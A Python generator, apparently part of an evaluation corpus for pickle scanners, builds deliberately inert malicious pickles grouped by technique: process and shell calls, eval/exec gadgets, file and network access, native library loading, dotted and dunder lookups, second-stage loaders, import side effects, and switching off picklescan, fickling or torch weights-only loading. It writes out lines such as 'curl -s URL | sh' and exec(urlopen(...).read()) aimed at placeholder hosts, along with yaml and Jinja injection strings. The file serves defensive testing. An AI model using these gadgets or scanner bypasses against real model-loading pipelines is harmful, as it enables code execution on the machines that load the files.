"""Malicious pickles whose danger is in *what* is called: classes 1, 5, 8, 9, 16, 18 and 19.

The tables hold a dotted name (module before the last dot, or before a colon) and arguments. All payloads are inert.
"""

from .asm import BUILD, STYLES, Raw, build, call, g, lit, newobj, red, seq, sg, stream, whole

URL = "http://files.example.invalid/stage2"
CODE = "import os; os.system('true')"
TMP = "/tmp/weir-eval-"
NAMESPACE = newobj("types.SimpleNamespace")
NESTED = b"cposix\nsystem\n(S'true'\ntR."
NAMES = (
    "model.pkl",
    "pytorch_model.bin",
    "weights.pt",
    "checkpoint.pth",
    "last.ckpt",
    "estimator.joblib",
    "data.pickle",
    "features.p",
    "model.dat",
    "vocab.model",
    "optimizer.bin",
    "clf.sav",
    "cache",
    "training_args.bin",
    "state.PKL",
)

PROCESS = [
    ("os.system", "true"),
    ("posix.system", "echo weir-eval"),
    ("nt.system", "echo weir-eval"),
    ("os.popen", f"curl -s {URL} | sh"),
    ("os.execlp", "true", "true"),
    ("os.execvp", "true", ["true"]),
    ("os.spawnlp", 0, "true", "true"),
    ("posix.posix_spawn", "/bin/true", ["true"], {}),
    ("os.startfile", "calc.exe"),
    ("subprocess.Popen", ["true"]),
    ("subprocess.run", ["echo", "weir-eval"]),
    ("subprocess.call", ["true"]),
    ("subprocess.check_output", ["id"]),
    ("subprocess.getoutput", "id"),
    ("subprocess.getstatusoutput", "uname -a"),
    ("pty.spawn", "/bin/true"),
    ("os.fork",),
    ("os.kill", 999999, 0),
    ("os._exit", 0),
    ("os.abort",),
]
CODE_CALLS = [
    ("builtins.eval", "__import__('os').system('true')"),
    ("builtins.exec", CODE),
    ("builtins.exec", "exec(__import__('base64').b64decode('cGFzcw=='))"),
    ("builtins.__import__", "weir_eval_absent"),
    ("runpy._run_code", CODE, {}),
    ("runpy.run_path", TMP + "a.py"),
    ("runpy.run_module", "antigravity"),
    ("timeit.timeit", "pass", "import os; os.system('true')"),
    ("timeit.main", ["-n1", CODE]),
    ("cProfile.run", CODE),
    ("cProfile.runctx", CODE, {}, {}),
    ("profile.run", CODE),
    ("profile.runctx", CODE, {}, {}),
    ("pdb.run", CODE),
    ("code.interact", "x"),
    ("doctest.debug_script", CODE),
    ("bdb:Bdb.run", red("bdb.Bdb"), CODE),
]
FILES = [
    ("builtins.open", TMP + "f1", "w"),
    ("io.open", TMP + "f2", "wb"),
    ("_io.FileIO", TMP + "f3", "w"),
    ("codecs.open", TMP + "f4", "w"),
    ("os.remove", TMP + "f5"),
    ("os.rename", TMP + "f6", TMP + "f7"),
    ("os.symlink", "/etc", TMP + "f8"),
    ("os.chmod", TMP + "f9", 511),
    ("shutil.rmtree", TMP + "d1"),
    ("shutil.copyfile", "/etc/hostname", TMP + "f10"),
    ("shutil.move", TMP + "f11", TMP + "f12"),
    ("shutil.unpack_archive", TMP + "a.zip", TMP + "d2"),
    ("linecache.getlines", "/etc/passwd"),
    ("sqlite3.connect", TMP + "db"),
    ("dbm.dumb.open", TMP + "dbm", "n"),
    ("logging.FileHandler", TMP + "log"),
    ("zipfile.ZipFile", TMP + "z.zip", "w"),
    ("tarfile.open", TMP + "t.tar", "w"),
    ("distutils.file_util.write_file", TMP + "w", ["* * * * * true"]),
    ("gzip.open", TMP + "g.gz", "wb"),
    ("os.truncate", TMP + "t", 0),
    ("os.makedirs", TMP + "d3"),
    ("pathlib:Path.write_text", Raw(red("pathlib.PosixPath", TMP + "p").ops), "x"),
    ("pathlib:Path.unlink", Raw(red("pathlib.PosixPath", TMP + "p2").ops)),
    ("shelve.open", TMP + "shelf"),
]
NETWORK = [
    ("urllib.request.urlopen", URL),
    ("urllib.request.urlretrieve", URL, TMP + "dl"),
    ("socket.create_connection", ("192.0.2.1", 4444)),
    ("socket.gethostbyname", "leak.example.invalid"),
    ("socket.getaddrinfo", "leak.example.invalid", 80),
    ("ftplib.FTP", "192.0.2.1"),
    ("smtplib.SMTP", "192.0.2.1"),
    ("telnetlib.Telnet", "192.0.2.1"),
    ("poplib.POP3", "192.0.2.1"),
    ("imaplib.IMAP4", "192.0.2.1"),
    ("nntplib.NNTP", "192.0.2.1"),
    ("ssl.get_server_certificate", ("192.0.2.1", 443)),
    ("webbrowser.open", URL),
    ("requests.get", URL),
    ("requests.api.post", URL, {"u": "x"}),
    ("httpx.get", URL),
    ("urllib3.request", "GET", URL),
    ("multiprocessing.connection.Client", ("192.0.2.1", 4445)),
    ("asyncio.run", Raw(red("asyncio.open_connection", "192.0.2.1", 80).ops)),
]
NATIVE = [
    ("ctypes.CDLL", TMP + "evil.so"),
    ("ctypes.WinDLL", "evil.dll"),
    ("ctypes.PyDLL", TMP + "evil.so"),
    ("_ctypes.dlopen", TMP + "evil.so", 2),
    ("ctypes:cdll.LoadLibrary", TMP + "evil.so"),
    ("numpy.ctypeslib.load_library", "evil", "/tmp"),
    ("torch.classes.load_library", TMP + "evil.so"),
    ("torch.ops.load_library", TMP + "evil.so"),
    ("torch.utils.cpp_extension.load", "x", [TMP + "x.cpp"]),
    ("imp.load_dynamic", "x", TMP + "x.so"),
]
OBSCURE_STDLIB = [
    ("uuid._get_command_stdout", "true"),
    ("_osx_support._read_output", "true"),
    ("_osx_support._find_build_tool", "x; true"),
    ("_aix_support._read_cmd_output", "true"),
    ("pydoc.pipepager", "text", "true"),
    ("pydoc.tempfilepager", "text", "true"),
    ("ensurepip._run_pip", ["install", "weir-eval"]),
    ("venv.create", TMP + "venv"),
    ("distutils.spawn.spawn", ["true"]),
    ("test.support.script_helper.assert_python_ok", "-c", CODE),
    ("idlelib.calltip.get_entity", "__import__('os').system('true')"),
    ("idlelib.autocomplete:AutoComplete.get_entity", Raw(newobj("idlelib.autocomplete.AutoComplete").ops), "__import__('os')"),
    ("idlelib.debugobj.ObjectTreeItem.SetText", NAMESPACE, CODE),
    ("lib2to3.pgen2.pgen.ParserGenerator.make_label", NAMESPACE, build(NAMESPACE, {"labels": []}), "'x' * __import__('os').system('true')"),
    ("trace.Trace.run", Raw(red("trace.Trace").ops), CODE),
    ("code.InteractiveInterpreter.runcode", Raw(red("code.InteractiveInterpreter").ops), CODE),
    ("asyncio.unix_events._UnixSubprocessTransport._start", NAMESPACE, ["true"], False, None, None, None, 0),
    ("multiprocessing.util.spawnv_passfds", b"/bin/true", ["true"], []),
    ("imaplib.IMAP4_stream", "true"),
    ("site.addpackage", "/tmp", "weir-eval.pth", None),
    ("idlelib.run.Executive.runcode", build(NAMESPACE, {"locals": {}}), CODE),
    ("idlelib.pyshell.ModifiedInterpreter.runcommand", build(NAMESPACE, {"tkconsole": NAMESPACE, "rpcclt": None, "locals": {}}), CODE),
    ("_pyrepl.pager.pipe_pager", "text", "true"),
    ("py_compile.compile", TMP + "a.py", TMP + "b.pyc"),
    ("zipapp.create_archive", TMP + "app", TMP + "app.pyz"),
    ("shutil.make_archive", TMP + "arc", "zip", "/tmp/weir-eval-d"),
    ("lib2to3.main.main", "lib2to3.fixes", ["-w", TMP + "a.py"]),
]
THIRD_PARTY = [
    ("numpy.testing._private.utils.runstring", CODE, {}),
    ("numpy.testing.rundocs", TMP + "a.py"),
    ("numpy.f2py.crackfortran.getlincoef", "__import__('os').system('true')", {}),
    ("numpy.f2py.crackfortran.myeval", "__import__('os').system('true')"),
    ("numpy.f2py.capi_maps.load_f2cmap_file", TMP + "map"),
    ("numpy.f2py.diagnose.run_command", "true"),
    ("numpy.distutils.exec_command.exec_command", "true"),
    ("numpy.memmap", TMP + "mm", "uint8", "w+", 0, (4,)),
    ("torch.utils._config_module:ConfigModule.load_config", NAMESPACE, NESTED),
    ("torch.utils.collect_env.run", "true"),
    ("torch.utils.bottleneck.__main__.run_cprofile", CODE, {}),
    ("torch._dynamo.guards.GuardBuilder.get", NAMESPACE, "__import__('os').system('true')"),
    ("torch.jit.unsupported_tensor_ops.execWrapper", CODE, {}, {}),
    ("torch.fx.experimental.symbolic_shapes.ShapeEnv.evaluate_guards_expression", None, "__import__('os').system('true')", []),
    ("torch.utils.data.datapipes.utils.decoder.basichandlers", "pickle", NESTED),
    ("torch._inductor.codecache.PyCodeCache.load", CODE),
    ("pandas.read_csv", URL),
    ("pandas.read_html", URL),
    ("pandas.io.common.get_handle", TMP + "h", "w"),
    ("sklearn.datasets.fetch_openml", "x"),
    ("IPython.utils.process.system", "true"),
    ("IPython.utils._process_posix.ProcessHandler.system", red("IPython.utils._process_posix.ProcessHandler"), "true"),
    ("setuptools.sandbox.run_setup", TMP + "setup.py", []),
    ("pip._internal.main", ["install", "weir-eval"]),
    ("pip.main", ["install", "weir-eval"]),
    ("psutil.Popen", ["true"]),
    ("sympy.sympify", "__import__('os').system('true')"),
    ("sympy.parsing.sympy_parser.parse_expr", "__import__('os').system('true')"),
    ("yaml.unsafe_load", "!!python/object/apply:os.system ['true']"),
    ("jinja2:Template.render", red("jinja2.Template", "{{ cycler.__init__.__globals__.os.popen('true').read() }}")),
    ("tensorflow.io.write_file", TMP + "tf", "x"),
    ("keras.utils.get_file", "x", URL),
    ("paddle.utils.cpp_extension.load", "x", [TMP + "x.cc"]),
    ("transformers.dynamic_module_utils.get_class_from_dynamic_module", "m.C", "example/x"),
    ("huggingface_hub.snapshot_download", "example/x"),
    ("invoke.run", "true"),
    ("pexpect.run", "true"),
    ("nltk.downloader.download", "x"),
]
PY2 = [
    ("__builtin__.eval", "__import__('os').system('true')"),
    ("__builtin__.execfile", TMP + "a.py"),
    ("__builtin__.apply", Raw(g("os", "system").ops), ("true",)),
    ("__builtin__.reduce", Raw(g("os", "putenv").ops), ["A", "B"]),
    ("__builtin__.file", TMP + "f", "w"),
    ("__builtin__.open", TMP + "f", "w"),
    ("commands.getoutput", "id"),
    ("commands.getstatusoutput", "id"),
    ("cPickle.loads", b"cos\nsystem\n(S'true'\ntR."),
    ("urllib2.urlopen", URL),
    ("os.popen2", "true"),
    ("popen2.popen3", "true"),
    ("anydbm.open", TMP + "db", "n"),
    ("__builtin__.list", red("itertools.imap", g("os", "system"), ["true"])),
    ("urllib.urlopen", URL),
    ("urllib.urlretrieve", URL, TMP + "x"),
]
PRIVATE_DOTTED = [
    ("shutil", "os.system"),
    ("tempfile", "_os.system"),
    ("random", "_os.popen"),
    ("logging", "os.popen"),
    ("json", "decoder.scanner.re.enum.sys.exit"),
    ("glob", "os.system"),
    ("typing", "sys.modules.clear"),
    ("http.server", "os.system"),
    ("pathlib", "os.system"),
    ("numpy", "f2py.os.system"),
    ("numpy.testing", "_private.utils.os.system"),
    ("torch", "os.system"),
    ("torch.serialization", "os.system"),
    ("torch.hub", "os.system"),
    ("joblib", "numpy_pickle.os.system"),
    ("joblib.parallel", "os.system"),
    ("pandas.io.common", "os.system"),
    ("sklearn.datasets._base", "os.system"),
    ("multiprocessing", "context.os.system"),
    ("unittest", "mock.builtins.eval"),
    ("collections", "_sys.exit"),
    ("xgboost", "core.os.system"),
    ("numpy.lib._npyio_impl", "os.system"),
    ("inspect", "os.system"),
    ("linecache", "os.popen"),
    ("zipfile", "os.system"),
]
DUNDER_CALLS = [
    ("os", "__dict__.__getitem__", ("system",), ("true",)),
    ("random", "__builtins__.__getitem__", ("eval",), ("__import__('os').system('true')",)),
    ("logging", "__builtins__.get", ("exec",), (CODE,)),
    ("os", "system.__call__", ("true",)),
    ("builtins", "eval.__call__", ("__import__('os')",)),
    ("subprocess", "run.__call__", (["true"],)),
    ("builtins", "type.__call__", (g("subprocess", "Popen"), ["true"])),
    ("subprocess", "Popen.__class__.__call__", (g("subprocess", "Popen"), ["true"])),
    ("functools", "partial.__call__", (red("functools.partial", g("os", "system"), "true"),)),
    ("builtins", "object.__getattribute__", (sg("shutil", "os"), "system"), ("true",)),
    ("shutil", "os.__getattribute__", ("system",), ("true",)),
    ("operator", "attrgetter.__call__", (red("operator.attrgetter", "system"), sg("shutil", "os")), ("true",)),
    ("sys", "modules.__getitem__.__call__", ("os",)),
    ("builtins", "dict.__getitem__", (sg("os", "__dict__"), "popen"), ("true",)),
]
LOADERS = [
    ("torch.load", "/tmp/weir-eval.pt"),
    ("torch.serialization.load", "/tmp/weir-eval.pt"),
    ("torch.hub.load", "example/repo", "model"),
    ("torch.hub.load_state_dict_from_url", URL),
    ("torch.jit.load", "/tmp/weir-eval.pt"),
    ("numpy.load", "/tmp/weir-eval.npy", None, True),
    ("pandas.read_pickle", URL),
    ("pandas.io.pickle.read_pickle", "/tmp/weir-eval.pkl"),
    ("joblib.load", "/tmp/weir-eval.joblib"),
    ("joblib.numpy_pickle.load", "/tmp/weir-eval.joblib"),
    ("importlib.import_module", "weir_eval_absent"),
    ("pydoc.safeimport", "weir_eval_absent"),
    ("imp.load_source", "x", "/tmp/weir-eval.py"),
    ("importlib.machinery:SourceFileLoader.load_module", Raw(red("importlib.machinery.SourceFileLoader", "x", "/tmp/weir-eval.py").ops)),
    ("zipimport:zipimporter.load_module", Raw(red("zipimport.zipimporter", "/tmp/weir-eval.zip").ops), "x"),
    ("site.addsitedir", "/tmp/weir-eval-site"),
    ("tensorflow.keras.models.load_model", "/tmp/weir-eval.h5"),
    ("keras.saving.load_model", "/tmp/weir-eval.keras"),
    ("keras.models.load_model", URL),
    ("transformers.pipeline", "text-generation", "example/evil"),
    ("datasets.load_dataset", "example/evil"),
    ("mlflow.pyfunc.load_model", "/tmp/weir-eval"),
    ("cloudpickle.load", Raw(red("builtins.open", "/tmp/weir-eval", "rb").ops)),
    ("dill.load_session", "/tmp/weir-eval"),
    ("fastai.learner.load_learner", "/tmp/weir-eval.pkl"),
    ("gensim.utils.unpickle", "/tmp/weir-eval"),
    ("nltk.data.load", "nltk:evil.pickle"),
    ("statsmodels.iolib.smpickle.load_pickle", "/tmp/weir-eval"),
    ("sys.path.append", "/tmp/weir-eval"),
    ("pickle.load", Raw(red("io.open", "/tmp/weir-eval", "rb").ops)),
]
SCANNERS = [
    ("fickling.hook.remove_hook",),
    ("fickling.hook.deactivate_safe_ml_environment",),
    ("picklescan.scanner._unsafe_globals.clear",),
    ("picklescan.scanner._safe_globals.update", {"os": ["system"]}),
    ("modelscan.settings.DEFAULT_SETTINGS.clear",),
    ("torch.serialization.add_safe_globals", [Raw(g("os", "system").ops)]),
    ("os.putenv", "TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD", "1"),
    ("os:environ.update", {"TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD": "1"}),
    ("torch._weights_only_unpickler._add_safe_globals", [Raw(g("os", "system").ops)]),
]
DOTLESS_STYLES = ("text0", "bin2", "bin3", "bin5", "framed4", "plain4", "inst", "obj")


def _name(table, index):
    return NAMES[(index * 7 + len(table)) % len(NAMES)]


def _slug(name):
    return name.replace(":", ".").replace(".", "-").replace("_", "-").strip("-").lower()


def _table(corpus, technique, rows, styles, note, decorate=None):
    for index, row in enumerate(rows):
        name, arguments = row[0], row[1:]
        style = styles[index % len(styles)]
        module, _, attribute = name.partition(":") if ":" in name else name.rpartition(".")
        if (
            "." in attribute
            or module[:1].islower()
            and any(part.lstrip("_")[:1].isupper() or part in OBJECTS for part in module.split("."))
        ):
            style = ("framed4", "plain4", "bin5")[index % 3]
            name = _deepest_module(name)
        elif style not in ("framed4", "plain4", "bin5") and any(part.startswith("_unsafe") for part in name.split(".")):
            style = "plain4"
        payload = call(style, name, *arguments)
        content = decorate(style, payload, index) if decorate else stream(style, payload)
        corpus.malicious(
            technique, f"{index:02d}-{_slug(name)}/{_name(rows, index)}", content, "pickle", note, reach=name.replace(":", ".")
        )


def _deepest_module(name):
    """module:attribute with the split before the first component that is a class or an object."""
    if ":" in name:
        return name
    parts = name.split(".")
    for index, part in enumerate(parts):
        if index and (part.lstrip("_")[:1].isupper() or part in OBJECTS):
            return ".".join(parts[:index]) + ":" + ".".join(parts[index:])
    return name


OBJECTS = {"environ", "path", "cdll", "modules", "_unsafe_globals", "_safe_globals", "DEFAULT_SETTINGS"}


def _among_data(style, payload, index):
    """The payload as one value of an ordinary checkpoint-like dictionary."""
    before = {"epoch": index, "lr": 0.001, "names": ["conv1.weight", "conv1.bias"]}
    return whole(Raw(lit({**before, "extra": payload, "best": [0.5, 0.25]}, style in ("text0", "inst"))), style)


def add(corpus):
    _table(corpus, "01-call-process", PROCESS, STYLES, "starts or ends a process")
    _table(
        corpus,
        "01-call-process-among-data",
        PROCESS,
        STYLES[3:] + STYLES[:3],
        "the same inside a dictionary of ordinary values",
        _among_data,
    )
    _table(corpus, "01-call-code", CODE_CALLS, STYLES[1:] + STYLES[:1], "runs source text")
    _table(corpus, "01-call-files", FILES, STYLES[2:] + STYLES[:2], "writes, removes or reads files")
    _table(corpus, "01-call-network", NETWORK, STYLES[4:] + STYLES[:4], "opens a connection")
    _table(corpus, "01-call-native", NATIVE, STYLES[5:] + STYLES[:5], "loads native code or raw memory")
    _table(corpus, "01-obscure-stdlib", OBSCURE_STDLIB, DOTLESS_STYLES, "standard-library functions that run commands or source by the way")
    _table(
        corpus,
        "01-third-party-gadgets",
        THIRD_PARTY,
        DOTLESS_STYLES[2:] + DOTLESS_STYLES[:2],
        "library functions that run commands or source, load code, read or write",
    )
    _table(
        corpus,
        "09-python2-aliases",
        PY2,
        ("text0", "bin1", "bin2", "inst", "obj"),
        "names that fix_imports maps, or that Python 2 itself has",
    )
    _table(corpus, "16-second-stage-loaders", LOADERS, DOTLESS_STYLES[1:] + DOTLESS_STYLES[:1], "a loader for code that lies elsewhere")
    _table(corpus, "19-scanner-tampering", SCANNERS, ("plain4", "bin5", "framed4", "bin2"), "switches a scanner or a safety net off")
    _dotted(corpus)
    _code_objects(corpus)
    _import_effects(corpus)


def _dotted(corpus):
    for index, (module, path) in enumerate(PRIVATE_DOTTED):
        style = ("framed4", "plain4", "bin5")[index % 3]
        argument = () if path.endswith(("clear", "__class__")) else ("true",) if not path.endswith("exit") else (0,)
        corpus.malicious(
            "08-dotted-through-safe-modules",
            f"{index:02d}-{_slug(module)}/{_name(PRIVATE_DOTTED, index)}",
            stream(style, call(style, f"{module}:{path}", *argument)),
            "pickle",
            "protocol 4 resolves dots, so a harmless module leads to another",
            reach=f"{module}.{path}",
        )
    for index, (module, path, *calls) in enumerate(DUNDER_CALLS):
        payload = sg(module, path)
        for arguments in calls:
            payload = red(payload, *arguments)
        corpus.malicious(
            "08-dunder-names",
            f"{index:02d}-{_slug(module + '.' + path)}/model.bin",
            stream(("framed4", "plain4", "bin5")[index % 3], payload),
            "pickle",
            "reaches the callable by dunder names",
            reach=f"{module}.{path}",
        )
    wrap_close = red("operator.getitem", red(sg("collections", "OrderedDict.__class__.__base__.__subclasses__")), 138)
    chain = red("builtins.getattr", red("builtins.getattr", wrap_close, "__init__"), "__globals__")
    corpus.malicious(
        "08-dunder-names",
        "90-subclasses/model.bin",
        stream("plain4", red(red("operator.getitem", chain, "system"), "true")),
        "pickle",
        "walks from object to the globals of os",
    )
    module_value = [
        ("import-then-getattr", red(red("builtins.getattr", red("builtins.__import__", "os"), "system"), "true")),
        ("torch-os", red(red("builtins.getattr", g("torch", "os"), "system"), "true")),
        ("shutil-os", red(red("builtins.getattr", g("shutil", "os"), "popen"), "id")),
        ("module-dict", red(red("operator.getitem", red("builtins.getattr", g("logging", "os"), "__dict__"), "system"), "true")),
        ("vars-module", red(red("operator.getitem", red("builtins.vars", g("tempfile", "_os")), "system"), "true")),
        ("methodcaller", red(red("operator.methodcaller", "system", "true"), g("glob", "os"))),
        ("attrgetter", red(red(red("operator.attrgetter", "os.system"), g("numpy", "f2py")), "true")),
        (
            "globals-of-function",
            red(
                red(
                    "builtins.getattr", red("operator.getitem", red("builtins.getattr", g("shutil", "copy"), "__globals__"), "os"), "system"
                ),
                "true",
            ),
        ),
        ("sys-modules-get", red(red("builtins.getattr", red("operator.getitem", g("sys", "modules"), "os"), "system"), "true")),
        ("methodcaller-popen", red(red("operator.methodcaller", "run", ["true"]), g("multiprocessing.util", "subprocess"))),
    ]
    for index, (name, payload) in enumerate(module_value):
        corpus.malicious(
            "08-module-objects",
            f"{index:02d}-{name}/weights.bin",
            stream("bin2", payload),
            "pickle",
            "a module object as a value",
            reach=None,
        )


def add_resolvers(corpus):
    """Class 16: a resolver gives the callable, the next REDUCE calls it."""
    rows = [
        ("pkgutil.resolve_name", "os:system"),
        ("pydoc.locate", "os.system"),
        ("logging.config._resolve", "os.system"),
        ("unittest.mock._importer", "os.system"),
        ("django.utils.module_loading.import_string", "os.system"),
        ("werkzeug.utils.import_string", "os.system"),
        ("hydra.utils.get_method", "os.system"),
        ("hydra._internal.utils._locate", "os.system"),
        ("twisted.python.reflect.namedAny", "os.system"),
        ("keras.src.saving.serialization_lib._retrieve_class_or_fn", "system", None, "os", "function", {}),
        ("traitlets.utils.importstring.import_item", "os.system"),
        ("celery.utils.imports.symbol_by_name", "os:system"),
    ]
    for index, (name, *arguments) in enumerate(rows):
        style = DOTLESS_STYLES[1:6][index % 5]
        corpus.malicious(
            "16-name-resolvers",
            f"{index:02d}-{_slug(name)}/model.pkl",
            stream(style, red(red(name, *arguments), "true")),
            "pickle",
            "a resolver turns text into the callable",
            reach=name,
        )


def _code_objects(corpus):
    """Functions built from marshalled or literal code."""
    marshalled = b"c\x00\x00\x00\x00"
    function = red("types.FunctionType", red("marshal.loads", marshalled), {})
    code = red("types.CodeType", 0, 0, 0, 0, 1, 64, b"d\x00S\x00", (None,), (), (), "f.py", "f", "f", 1, b"", b"", (), ())
    cloud = red("cloudpickle.cloudpickle._make_function", red("cloudpickle.cloudpickle._builtin_type", "CodeType"), {}, "f", (), None)
    dill = red(
        "dill._dill._create_function",
        red("dill._dill._create_code", 0, 0, 0, 0, 1, 64, b"d\x00S\x00", (None,), (), (), "f.py", "f", 1, b"", (), ()),
        {"__builtins__": None},
    )
    cases = [
        ("marshal", red(function)),
        ("types-code", red(red("types.FunctionType", code, {}))),
        ("new-function", red(red("new.function", red("marshal.loads", marshalled), {}))),
        ("cloudpickle", red(cloud)),
        ("cloudpickle-by-value", red("cloudpickle.loads", stream("plain4", call("plain4", "os.system", "true")))),
        ("dill", red(dill)),
        ("codeop", red("builtins.exec", red("codeop.compile_command", "import os; os.system('true')"))),
        ("ast", red("builtins.exec", red("builtins.compile", "import os", "x", "exec"))),
        ("lambdify", red("sympy.utilities.lambdify.lambdify", [], "__import__('os').system('true')")),
    ]
    for index, (name, payload) in enumerate(cases):
        corpus.malicious(
            "01-code-objects",
            f"{index:02d}-{name}/model.pkl",
            stream(("bin3", "plain4", "bin5")[index % 3], payload),
            "pickle",
            "a function made from a code object",
        )


def _import_effects(corpus):
    rows = [
        ("antigravity", "geohash"),
        ("antigravity", "fly"),
        ("idlelib.idle", "x"),
        ("lib2to3.__main__", "main"),
        ("unittest.__main__", "main"),
        ("test.__main__", "main"),
        ("idlelib.__main__", "idlelib"),
        ("tkinter.__main__", "main"),
        ("venv.__main__", "rc"),
    ]
    for index, (module, name) in enumerate(rows):
        value = g(module, name) if index % 2 == 0 else sg(module, name)
        content = stream("bin2" if index % 2 == 0 else "plain4", {"kind": value, "n": 3} if index % 3 else value)
        corpus.malicious(
            "18-import-side-effects",
            f"{index:02d}-{_slug(module + '.' + name)}/model.pkl",
            content,
            "pickle",
            "the import alone acts; nothing is called",
            reach=f"{module}.{name}",
        )
    packages = [
        ("helpers", "import os\nos.system('echo weir-eval')\n\n\nclass Scaler:\n    pass\n"),
        (
            "preprocessing_utils",
            "import urllib.request\nexec(urllib.request.urlopen('http://files.example.invalid/a').read())\n\n\nclass Scaler:\n    pass\n",
        ),
        ("mymodel", "__import__('subprocess').Popen(['sh', '-c', 'true'])\n\n\nclass Scaler:\n    pass\n"),
    ]
    for index, (package, source) in enumerate(packages):
        instance = Raw(newobj(g(package, "Scaler")).ops + lit({"mean": 0.5}) + BUILD)
        files = {"model.pkl": stream("bin2", instance), f"{package}/__init__.py": source, "README.md": "# Scaler\n"}
        corpus.malicious(
            "18-own-package",
            f"{index:02d}-{package}",
            files,
            "pickle",
            "the pickle names a class of a package that lies beside it and acts at import",
        )


def add_object_opcodes(corpus):
    """Class 5: every opcode that calls."""
    rows = []
    for index, (name, *arguments) in enumerate(PROCESS[:8] + CODE_CALLS[:2]):
        rows.append((f"inst-{_slug(name)}", stream("inst", call("inst", name, *arguments)), name))
        rows.append((f"obj-{_slug(name)}", stream("obj", call("obj", name, *arguments)), name))
    for name, content, reach in rows:
        corpus.malicious("05-inst-and-obj", f"{name}/model.pkl", content, "pickle", "INST or OBJ calls", reach=reach)
    partial = newobj("functools.partial", g("os", "system"), "true")
    lists = [
        ("newobj-partial-then-reduce", red(partial), "os.system"),
        (
            "newobj-ex-partial",
            Raw(red(Raw(g("functools", "partial").ops + seq(g("subprocess", "run"), ["true"]).ops + lit({"shell": False}) + b"\x92")).ops),
            "subprocess.run",
        ),
        ("newobj-map-into-list", red("builtins.list", newobj("builtins.map", g("os", "system"), ["true"])), "os.system"),
        ("newobj-filter-into-tuple", newobj("builtins.tuple", newobj("builtins.filter", g("os", "system"), ["true"])), "os.system"),
        ("newobj-starmap-into-bytes", red("builtins.bytes", newobj("itertools.starmap", g("os", "system"), [("true",)])), "os.system"),
        ("newobj-accumulate", red("builtins.list", red("itertools.accumulate", ["true", "x"], g("os", "putenv"))), "os.putenv"),
        ("newobj-type", newobj("builtins.type", "X", (), {"__del__": Raw(g("os", "abort").ops)}), "os.abort"),
        ("newobj-takewhile", red("builtins.list", newobj("itertools.takewhile", g("os", "system"), ["true"])), "os.system"),
        ("copyreg-newobj", red(red("copyreg.__newobj__", g("functools", "partial"), g("os", "system"), "true")), "os.system"),
        (
            "copyreg-reconstructor",
            red("copyreg._reconstructor", g("subprocess", "Popen"), g("subprocess", "Popen"), ["true"]),
            "subprocess.Popen",
        ),
        ("py2-copy-reg", red("copy_reg._reconstructor", g("subprocess", "Popen"), g("subprocess", "Popen"), ["true"]), "subprocess.Popen"),
        (
            "newobj-generator-zip",
            red("builtins.dict", red("builtins.zip", ["a"], newobj("builtins.map", g("os", "system"), ["true"]))),
            "os.system",
        ),
    ]
    for index, (name, payload, reach) in enumerate(lists):
        corpus.malicious(
            "05-newobj-loaded-gun",
            f"{index:02d}-{name}/model.pkl",
            stream(("bin2", "bin3", "plain4", "bin5")[index % 4], payload),
            "pickle",
            "NEWOBJ makes an object that holds the dangerous callable, something else pulls the trigger",
            reach=reach,
        )
